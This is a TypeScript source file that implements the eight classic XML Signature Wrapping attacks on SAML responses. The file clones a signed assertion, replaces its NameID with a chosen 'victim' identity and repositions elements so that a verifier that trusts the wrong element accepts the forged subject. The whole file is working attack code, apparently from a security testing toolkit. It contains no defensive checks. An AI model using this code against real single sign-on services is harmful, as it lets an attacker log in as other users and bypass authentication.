import type { Document, Element } from '@xmldom/xmldom';
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

/** The eight classic ways to keep a valid signature and show the reader something else (XML signature wrapping). */
export const wrappings = [1, 2, 3, 4, 5, 6, 7, 8] as const;
export type Wrapping = (typeof wrappings)[number];

const assertionNamespace = 'urn:oasis:names:tc:SAML:2.0:assertion';
const protocolNamespace = 'urn:oasis:names:tc:SAML:2.0:protocol';
const signatureNamespace = 'http://www.w3.org/2000/09/xmldsig#';

/** Wraps a signed response so that a reader who trusts the wrong element sees `victim` as the subject. */
export function wrapSignature(xml: string, wrapping: Wrapping, victim: string): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement as Element;
  const assertion = only(response, assertionNamespace, 'Assertion');
  if (wrapping === 1 || wrapping === 2) return wrapResponse(document, response, wrapping, victim);
  const evil = assertion.cloneNode(true) as Element;
  evil.setAttribute('ID', '_evil');
  setSubject(evil, victim);
  const own = childOf(evil, 'Signature');
  const original = assertion.cloneNode(true) as Element;
  const originalSignature = childOf(original, 'Signature');
  switch (wrapping) {
    case 3:
      if (own) evil.removeChild(own);
      response.insertBefore(evil, assertion);
      break;
    case 4:
      if (own) evil.removeChild(own);
      response.replaceChild(evil, assertion);
      evil.appendChild(original);
      break;
    case 5:
      response.replaceChild(evil, assertion);
      if (originalSignature) original.removeChild(originalSignature);
      response.appendChild(original);
      break;
    case 6:
      response.replaceChild(evil, assertion);
      if (originalSignature) original.removeChild(originalSignature);
      own?.appendChild(original);
      break;
    case 7: {
      const extensions = document.createElementNS(protocolNamespace, 'samlp:Extensions');
      response.insertBefore(extensions, assertion);
      extensions.appendChild(evil);
      break;
    }
    case 8: {
      response.replaceChild(evil, assertion);
      const container = document.createElementNS(signatureNamespace, 'ds:Object');
      own?.appendChild(container);
      if (originalSignature) original.removeChild(originalSignature);
      container.appendChild(original);
      break;
    }
  }
  return new XMLSerializer().serializeToString(document);
}

function wrapResponse(document: Document, response: Element, wrapping: 1 | 2, victim: string): string {
  const original = response.cloneNode(true) as Element;
  const inOriginal = childOf(original, 'Signature');
  if (inOriginal) original.removeChild(inOriginal);
  response.setAttribute('ID', '_evil_response');
  const assertion = only(response, assertionNamespace, 'Assertion');
  assertion.setAttribute('ID', '_evil');
  const inAssertion = childOf(assertion, 'Signature');
  if (inAssertion) assertion.removeChild(inAssertion);
  setSubject(assertion, victim);
  const signature = childOf(response, 'Signature');
  if (wrapping === 1) signature?.appendChild(original);
  else if (signature) response.insertBefore(original, signature);
  return new XMLSerializer().serializeToString(document);
}

function setSubject(assertion: Element, victim: string): void {
  const name = only(assertion, assertionNamespace, 'NameID');
  name.textContent = victim;
}

function only(within: Element, namespace: string, name: string): Element {
  const found = within.getElementsByTagNameNS(namespace, name).item(0);
  if (!found) throw new Error(`no ${name}`);
  return found;
}

function childOf(parent: Element, name: string): Element | null {
  for (let child = parent.firstChild; child; child = child.nextSibling) if ((child as Element).localName === name) return child as Element;
  return null;
}
